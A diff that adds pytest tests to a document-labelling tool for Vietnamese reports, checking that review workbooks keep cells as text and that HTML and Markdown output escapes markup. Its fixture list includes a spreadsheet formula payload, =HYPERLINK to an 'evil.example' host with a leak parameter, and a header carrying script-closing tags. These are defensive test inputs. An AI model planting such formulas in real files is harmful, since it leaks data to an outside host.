@@ -12,6 +12,7 @@ import openpyxl
 import pytest
 
 from nq35cls.cli import main
+from nq35cls.errors import DataError
 from nq35cls.review import read_review
 from nq35cls.safe_text import (
     file_href,
@@ -20,6 +21,7 @@ from nq35cls.safe_text import (
     printable,
     spreadsheet_text,
 )
+from nq35cls.writers.review import REVIEW_FIELDS
 
 FORMULAS = [
     '=HYPERLINK("http://evil.example/?leak="&A2,"Xem chi tiết")',
@@ -157,3 +159,68 @@ def test_helpers():
     assert file_href("x.txt", None) == "./x.txt"
     assert file_href("/abs/a b.txt", None) == "file:///abs/a%20b.txt"
     assert markdown_text("a|b") == "a\\|b"
+
+
+def test_review_workbook_cells_are_text_and_read_back(hostile, small_model_file, tmp_path):
+    out, review = tmp_path / "out.jsonl", tmp_path / "review.xlsx"
+    args = ["label", str(hostile), "--model", str(small_model_file), "-o", str(out), "-q"]
+    assert main([*args, "--review", str(review), "--review-size", "500"]) == 0
+    assert review.read_bytes()[:2] == b"PK"  # a workbook, not CSV under an .xlsx name
+    book = openpyxl.load_workbook(review)
+    sheet = book.worksheets[0]
+    rows = list(sheet.iter_rows())
+    head = [c.value for c in rows[0]]
+    assert head == list(REVIEW_FIELDS) and head[5:7] == ["text", "correct_label"]
+    assert not [c for row in rows for c in row if c.data_type == "f"]
+    texts = {row[5].value for row in rows[1:]}
+    assert set(FORMULAS) <= texts  # the same text, unprefixed: a text cell is never a formula
+    (validation,) = sheet.data_validations.dataValidation
+    assert validation.formula1 == '"results,limitations,solutions,other,boilerplate"'
+    assert str(validation.sqref) == f"G2:G{len(rows)}"
+    assert read_review(review) == []  # nothing reviewed yet
+    for k, row in enumerate(rows[1:]):
+        row[6].value = "solutions" if k % 2 else None  # every other row reviewed, as a person would
+    book.save(review)
+    back = [r for r in read_review(review) if r.reviewed]  # each with its neighbours as context
+    assert len(back) == len(rows[1:]) // 2 and {r.label for r in back} == {"solutions"}
+    assert {r.text for r in back} <= texts
+    sheet.cell(row=2, column=7, value="Kết quả")  # Vietnamese label names are understood
+    book.save(review)
+    assert any(r.label == "results" for r in read_review(review))
+    sheet.cell(row=2, column=7, value="có lẽ")
+    book.save(review)
+    with pytest.raises(DataError, match=r"review\.xlsx: 1 bad row\(s\):\n  line 2: unknown label 'có lẽ'"):
+        read_review(review)
+
+
+def test_review_workbook_that_is_not_one(tmp_path):
+    bad = tmp_path / "review.xlsx"
+    bad.write_text("file,text,correct_label\n", encoding="utf-8")
+    with pytest.raises(DataError, match="not a readable .xlsx workbook"):
+        read_review(bad)
+
+
+def test_report_names_from_headers_are_escaped(small_model_file, tmp_path):
+    folder = tmp_path / "in"
+    folder.mkdir()
+    (folder / "a.txt").write_text(
+        'UBND XÃ "TÂN" & <1> *ĐẬM*\nCỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM\n'
+        "Số: 4/BC-UBND\nTân Hưng, ngày 1 tháng 2 năm 2025\nBÁO CÁO\nKết quả </script><b>năm 2024</b>\n"
+        "I. KẾT QUẢ\nXã đã tổ chức 5 hội nghị.\n",
+        encoding="utf-8",
+    )
+    shown = {}
+    for suffix in ("html", "md", "xlsx"):
+        out = tmp_path / f"out.{suffix}"
+        main(["label", str(folder), "--model", str(small_model_file), "-o", str(out), "-q"])
+        if suffix == "xlsx":
+            shown[suffix] = openpyxl.load_workbook(out).worksheets[0].cell(row=2, column=1).value
+        else:
+            shown[suffix] = out.read_text(encoding="utf-8")
+    name = 'UBND xã "Tân" & <1> *Đậm, 4/BC-UBND, 1/2/2025'
+    assert shown["xlsx"] == name  # the same text in the workbook
+    assert "UBND xã &quot;Tân&quot; &amp; &lt;1&gt; *Đậm, 4/BC-UBND, 1/2/2025" in shown["html"]
+    assert 'UBND xã "Tân" & \\<1\\> \\*Đậm, 4/BC-UBND, 1/2/2025' in shown["md"]
+    for text in (shown["html"], shown["md"]):
+        assert "<1>" not in text and "<b>" not in text  # text, never markup
+    assert shown["html"].count("</script>") == 1 and "</script>" not in shown["md"]
